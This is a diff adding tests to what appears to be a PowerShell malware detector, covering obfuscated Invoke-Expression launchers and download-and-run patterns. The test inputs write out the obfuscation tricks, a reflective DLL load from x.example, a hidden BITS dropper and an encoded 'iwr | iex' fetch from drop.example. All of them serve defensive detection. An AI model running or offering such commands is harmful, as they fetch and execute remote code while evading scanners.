@@ -71,6 +71,32 @@ def test_invoke_expression_spelled_by_fragments_format_or_char_codes_is_hidden()
         assert rules(script).get("capabilities.hidden-call") == "block", script
 
 
+def test_obfuscators_indexing_automatic_variables_aliases_and_reversal_are_folded() -> None:
+    for script in [
+        ".( $pshome[4]+$pshome[30]+'x') $code",           # Invoke-Obfuscation's launcher
+        "&($env:ComSpec[4,15,25]-join'') $code",
+        "& ($ShellId[1]+$ShellId[13]+'x') $code",
+        "$s = 'xei'\n& ($s[-1..-3] -join '') $code",
+        "Set-Alias -Name go -Value Invoke-Expression\ngo $code",
+    ]:
+        assert rules(script).get("capabilities.hidden-call") == "block", script
+
+
+def test_fetched_assemblies_and_downloaded_programs_run_block() -> None:
+    reflective = ("$d = (New-Object Net.WebClient).DownloadData('https://x.example/a.dll')\n"
+                  "[Reflection.Assembly]::Load($d)\n")
+    assert rules(reflective).get("capabilities.exec-fetched") == "block"
+    dropper = ("Start-BitsTransfer -Source https://x.example/a.exe -Destination \"$env:TEMP\\a.exe\"\n"
+               "Start-Process \"$env:TEMP\\a.exe\" -WindowStyle Hidden\n")
+    assert rules(dropper).get("capabilities.exec-fetched") == "block"
+    request = ("$r = [System.Net.WebRequest]::Create('https://x.example/p').GetResponse()\n"
+               "$t = (New-Object IO.StreamReader($r.GetResponseStream())).ReadToEnd()\n")
+    frontend = powershell.walk("r.ps1", request)
+    assert frontend is not None
+    assert [f.value for f in frontend.facts.values() if f.kind == NETWORK_EGRESS] == [
+        "https://x.example/p"]
+
+
 def test_base64_of_utf16_decoded_and_run_blocks() -> None:
     payload = base64.b64encode("iwr https://drop.example/s.ps1 | iex".encode("utf-16-le")).decode()
     script = (f"$b = [Convert]::FromBase64String('{payload}')\n"
